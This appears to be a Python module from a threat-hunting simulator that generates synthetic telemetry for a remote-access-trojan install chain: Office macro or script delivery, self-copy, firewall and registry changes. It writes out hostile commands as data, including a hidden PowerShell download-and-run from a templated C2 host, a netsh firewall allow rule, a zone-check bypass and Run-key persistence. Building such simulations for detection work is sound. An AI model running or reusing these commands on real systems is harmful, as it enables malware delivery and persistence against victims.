"""The install half of an intrusion: delivery, first run and self-copy, and `INS()`.

Delivery puts the payload on disk through an Office document or a script host (or, for the
seed-naive build, a download the user double-clicks); the payload copies itself to the
install folder and starts the copy; the copy sets the zone-check value, allows itself
through the legacy netsh firewall context (whose FirewallRules values the firewall service
writes), writes its Run values and drops its Startup copy.
"""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from rathunt.simulate.host import Process
from rathunt.simulate.schedule import MINUTE, SECOND, Session, user_profile
from rathunt.simulate.shapes import (
    dns_query,
    file_create,
    network_connect,
    process_create,
    registry_event,
    user_reg,
)

if TYPE_CHECKING:
    from rathunt.simulate.scenario import Episode, Intrusion

RUN_KEY = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
FIREWALL_RULES = (
    "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
    "\\FirewallRules"
)
WOW64 = "C:\\Windows\\SysWOW64"


def delivery(ix: Intrusion, t: int, session: Session) -> tuple[int, Process, Episode]:
    """The chain that puts the payload on disk and starts it."""
    host, profile = ix.host, user_profile(ix.host)
    events: Episode = []
    if ix.implant.delivery == "explorer":
        browser = host.process(
            t - 5 * MINUTE,
            "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"',
            session.explorer,
        )
        drop = f"{profile}\\Downloads\\{ix.implant.exe}"
        events += file_create(host, t, browser, drop, ix.label("user-download"))
        dropper = host.process(
            t + 20 * SECOND,
            drop,
            f'"{drop}" ',
            session.explorer,
            current_directory=f"{profile}\\Downloads\\",
            content=ix.rg,
        )
        events += process_create(host, dropper_t := t + 20 * SECOND, dropper, ix.label("first-run"))
        return dropper_t, dropper, events
    name = ix.rng.choice(["Invoice_2291", "Scan_0193", "Payment_Advice", "Order-55817"])
    drop = f"{profile}\\AppData\\Local\\Temp\\{name.lower()}.exe"
    if ix.implant.delivery == "office":
        doc = f"{profile}\\Downloads\\{name}.doc"
        parent = host.process(
            t,
            "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            f'"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "{doc}" /o ""',
            session.explorer,
            current_directory=f"{profile}\\Downloads\\",
        )
        step = "office-macro"
    else:
        script = f"{profile}\\Downloads\\{name}.vbs"
        parent = host.process(
            t,
            "C:\\Windows\\System32\\wscript.exe",
            f'"C:\\Windows\\System32\\WScript.exe" "{script}" ',
            session.explorer,
            current_directory=f"{profile}\\Downloads\\",
        )
        step = "script-host"
    events += process_create(host, t, parent, ix.label(step))
    url = f"http://{ix.rng.choice(['cdn-docs', 'files', 'update'])}.{ix.implant.c2_host}"
    command = (
        'powershell.exe -NoProfile -WindowStyle Hidden -Command "$d=[Convert]::'
        f"FromBase64String((New-Object Net.WebClient).DownloadString('{url}/{name}.txt'));"
        f"[IO.File]::WriteAllBytes('{drop}',$d);Start-Process '{drop}'\""
    )
    ps_t = t + 4 * SECOND + ix.rng.randrange(3 * SECOND)
    loader = host.process(
        ps_t, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", command, parent
    )
    events += process_create(host, ps_t, loader, ix.label(step, "T1059.001"))
    fetch = ix.label("loader-download")
    events += dns_query(host, ps_t + 900_000, loader, url.split("/")[2], [ix.implant.c2_ip], fetch)
    events += network_connect(
        host, ps_t + 960_000, loader, ix.implant.c2_ip, 80, ix._port(), label=fetch
    )
    events += file_create(host, ps_t + 2 * SECOND, loader, drop, fetch)
    run_t = ps_t + 2 * SECOND + 300_000
    dropper = host.process(run_t, drop, f'"{drop}" ', loader, content=ix.rg)
    events += process_create(host, run_t, dropper, ix.label("first-run"))
    return run_t, dropper, events


def first_run(ix: Intrusion, t: int, dropper: Process) -> tuple[int, Episode]:
    """Sleep 1 s, copy to %DR%\\EXE, start the copy; the dropper then exits."""
    copy_t = t + SECOND + ix.rng.randrange(200_000)
    events = file_create(ix.host, copy_t, dropper, ix.path, ix.label("self-copy"))
    start_t = copy_t + 150_000
    ix.rat = ix.host.process(
        start_t,
        ix.path,
        f'"{ix.path}" ',
        dropper,
        current_directory=dropper.current_directory,
        content=ix.rg,
    )
    events += process_create(ix.host, start_t, ix.rat, ix.label("install-run"))
    return start_t, events


def install(ix: Intrusion, t: int) -> tuple[int, Episode]:
    """`INS()` from the installed copy: zone check, netsh, FirewallRules, Run, Startup."""
    host, rat = ix.host, ix._rat()
    t += SECOND + ix.rng.randrange(300_000)
    events = registry_event(
        host,
        t,
        rat,
        "SetValue",
        user_reg(rat.logon, "Environment\\SEE_MASK_NOZONECHECKS"),
        "1",
        ix.label("zone-check"),
    )
    t += 200_000
    name = ix.path.rsplit("\\", 1)[1]
    netsh = host.process(
        t,
        f"{WOW64}\\netsh.exe",
        f'netsh firewall add allowedprogram "{ix.path}" "{name}" ENABLE',
        rat,
    )
    events += process_create(host, t, netsh, ix.label("netsh-allow"))
    mpssvc = ix._service_host("mpssvc", "-k LocalServiceNoNetworkFirewall -p")
    for offset, protocol in ((600_000, 6), (612_000, 17)):
        guid = ix._guid()
        value = (
            f"v2.30|Action=Allow|Active=TRUE|Dir=In|Protocol={protocol}|Profile=Public|"
            f"App={ix.path}|Name={name}|"
        )
        events += registry_event(
            host,
            t + offset,
            mpssvc,
            "SetValue",
            f"{FIREWALL_RULES}\\{{{guid}}}",
            value,
            ix.label("firewall-rule"),
        )
    t += 5 * SECOND + ix.rng.randrange(SECOND)
    if ix.implant.run_key:
        events += _run_keys(ix, t, rat)
    if ix.implant.startup_copy:
        t += 300_000
        events += file_create(host, t, rat, ix.startup_path(), ix.label("startup-copy"))
    return t, events


def _run_keys(ix: Intrusion, t: int, rat: Process) -> Episode:
    if ix.implant.run_style == "powershell":
        script = f"Start-Process '{ix.path}' -ArgumentList '..'"
        encoded = base64.b64encode(script.encode("utf-16-le")).decode()
        data = f"powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {encoded}"
        label = ix.label("run-key-powershell")
    else:
        data = f'"{ix.path}" ..'
        label = ix.label("run-key")
    events = registry_event(
        ix.host, t, rat, "SetValue", user_reg(rat.logon, f"{RUN_KEY}\\{ix.rg}"), data, label
    )
    if rat.logon.elevated:
        target = f"HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\{ix.rg}"
        events += registry_event(ix.host, t + 3000, rat, "SetValue", target, data, label)
    return events
